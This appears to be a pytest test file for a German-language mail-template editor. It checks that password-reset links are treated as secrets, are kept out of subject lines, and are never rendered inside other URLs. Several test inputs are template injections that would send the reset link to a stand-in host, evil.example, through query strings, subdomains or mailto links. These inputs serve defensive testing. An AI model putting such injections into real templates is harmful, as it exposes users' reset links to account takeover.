"""What opens an access is seen by who gets the mail alone, whatever words an agency writes around it."""

from __future__ import annotations

import pytest

from app.mail.checking import check
from app.mail.liquid import Secret, WordingError
from app.mail.models import OutgoingMail
from app.mail.registry import all_mails, get_mail
from app.mail.wording import Variant
from app.mail.wordings import MailWording
from tenants import db
from tests.mail.letters import look, post
from tests.mail.test_editor import open_editor
from tests.mail.test_wording import rendered

SIE = Variant("de_sie")
LINK = "https://hafenlicht.kontor.example/passwort/Zm9vYmFyYmF6-cXV4"
EDITOR = "/verwaltung/einstellungen/e-mail-templates/staff_forgot_password/de_sie"

IN_SUBJECTS = [
    "{{ link }}",
    "Neu: {{ link | downcase }}",
    "{% if link contains 'a' %}a{% endif %}",
    "{% for teil in link %}{{ teil }}{% endfor %}",
    "{{ vorname | default: link }}",
]


def kinds(subject: str, body: str = "{{ link }}") -> list[str]:
    return [problem.kind for problem in check(get_mail("staff_forgot_password"), SIE, subject, body)]


def test_every_mail_with_a_personal_link_knows_it_for_a_secret():
    for mail in all_mails():
        links = [place for place in mail.placeholders if place.name == "link"]
        assert all(place.secret for place in links), mail.key
        assert bool(links) <= mail.sensitive, mail.key


@pytest.mark.parametrize("subject", IN_SUBJECTS)
def test_personal_link_is_refused_in_the_subject(app, subject):
    assert kinds(subject) == ["secret"]


def test_the_editor_says_why_the_link_is_not_for_the_subject(cast):
    client = open_editor(cast.a, EDITOR).submit("Speichern", {"Betreff": "Neu: {{ link }}"})
    assert client.status == 422
    assert "„link“ gehört nicht in den Betreff" in client.text


@pytest.mark.parametrize("subject", IN_SUBJECTS)
def test_subject_that_names_the_link_gives_way_to_ours(app, cast, subject):
    with cast.a.work():
        mail = get_mail("set_password")
        db.session.add(MailWording(
            key=mail.key, variant="de_du", number=1, subject=subject, body="{{ link }}", note="", staff_name="Ada",
        ))  # fmt: skip
    queued: OutgoingMail = look(app, cast.a, post(app, cast.a, "anna@example.org", locale="de", address_form="du"))
    # a filter that does not come to the link is no fault
    assert queued.subject in ("Lege dein Passwort für Hafenlicht fest", "Anna")


@pytest.mark.parametrize(
    "address",
    ["https://evil.example/?{{ link }}", "{{ link }}.evil.example", "mailto:x@evil.example?body={{ link }}"],
)
def test_link_within_another_address_leads_nowhere(address):
    html, text = rendered(f"[Passwort festlegen]({address})", link=Secret(LINK))
    assert (html, text) == ("<p>Passwort festlegen</p>\n", "Passwort festlegen")


@pytest.mark.parametrize(
    "filter", ["upcase", "downcase", "strip", "truncate: 500", "truncate: 60, ''", "truncatewords: 3", "capitalize"]
)
def test_no_filter_makes_something_else_of_the_link(filter):
    try:
        html, text = rendered(f"[Los](https://evil.example/?{{{{ link | {filter} }}}})", link=Secret(LINK))
    except WordingError:
        return
    assert (html, text) == ("<p>Los</p>\n", "Los")  # nothing was cut off: it is the link still


@pytest.mark.parametrize(
    "words",
    ["https://evil.example/?{{ link }}", "https://evil.example/?**{{ link }}**", "`https://evil.example/({{ link }}`"],
)
def test_words_before_the_link_do_not_run_into_it(words):
    html, text = rendered(words, link=Secret(LINK))
    assert f" {LINK}" in text
    assert f"?{LINK}" not in html
    assert f"({LINK}" not in html


def test_link_stays_as_it_is_where_it_belongs():
    html, text = rendered("[Los]({{ link }})\n\nOder: {{ link }} ({{ link }})", link=Secret(LINK))
    assert html.count(f'href="{LINK}"') == 3
    assert text == f"Los: {LINK}\n\nOder: {LINK} ({LINK})"
